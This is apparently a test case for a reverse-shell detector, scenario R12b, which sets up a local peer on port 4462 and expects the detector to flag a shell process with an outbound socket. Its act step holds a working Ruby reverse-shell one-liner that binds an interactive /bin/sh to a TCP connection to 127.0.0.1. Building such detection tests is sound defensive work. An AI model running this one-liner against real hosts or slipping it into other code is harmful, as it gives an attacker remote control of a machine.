# R12b: ruby becomes a shell
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4462

#: prepare
. lib/peers.sh
peer 4462
#: act
. lib/peers.sh
act
ruby -rsocket -e 's = TCPSocket.new("127.0.0.1", 4462)
exec("/bin/sh", "-i", :in => s, :out => s, :err => s)' \
  < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'
